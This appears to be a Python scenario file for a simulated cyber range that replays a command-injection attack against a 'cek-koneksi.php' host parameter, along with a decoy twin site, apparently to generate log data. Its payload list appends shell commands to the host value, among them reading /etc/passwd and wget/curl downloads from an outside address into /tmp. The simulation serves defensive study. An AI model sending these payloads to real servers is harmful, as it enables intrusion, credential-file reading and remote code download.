"""Commands are appended to a host name and their traces stand in the error log.

Twin: a page for everything.
"""

from __future__ import annotations

from random import Random

from range.estate.addresses import abroad
from range.scenarios.acts import intruder
from range.scenarios.acts import twin as twin_of
from range.visits.browser import Browser
from range.visits.steps import Pause, Visit
from range.visits.world import World

NAME = "command_injection"
SITES: tuple[str, ...] = ("kel-mawar",)
TWIN_SITES: tuple[str, ...] = ("jdih",)

_PAYLOADS = (
    "127.0.0.1;id",
    "127.0.0.1;uname+-a",
    "127.0.0.1;ls+-la",
    "127.0.0.1;nmap+-v",
    "127.0.0.1|cat+/etc/passwd",
    "127.0.0.1;netstat+-tnlp",
    "127.0.0.1;wget+http://203.0.113.77/x.txt+-O+/tmp/x",
    "127.0.0.1;curl+http://203.0.113.77/x.txt",
    "$(whoami)",
)


def intrusion(world: World) -> None:
    """Nine commands; some of them leave a line of the shell or of wget in error.log."""
    _, me, dice = intruder(world, NAME, SITES[0], "executed")
    world.go(SITES[0], world.at(7, 21.6), _inject(me, dice, "command"))


def _inject(me: Browser, dice: Random, role: str) -> Visit:
    yield from me.read("/cek-koneksi.php?host=127.0.0.1")
    for payload in _PAYLOADS:
        yield Pause(dice.uniform(6, 30))
        yield from me.get(f"/cek-koneksi.php?host={payload}", role=role)


def twin(world: World) -> None:
    """Plan: the same requests to a site that answers everything with its home page."""
    actor, dice = twin_of(world, NAME, TWIN_SITES[0])
    me = world.browser(actor, abroad(dice))
    world.go(TWIN_SITES[0], world.at(7, 22.1), _inject(me, dice, ""))
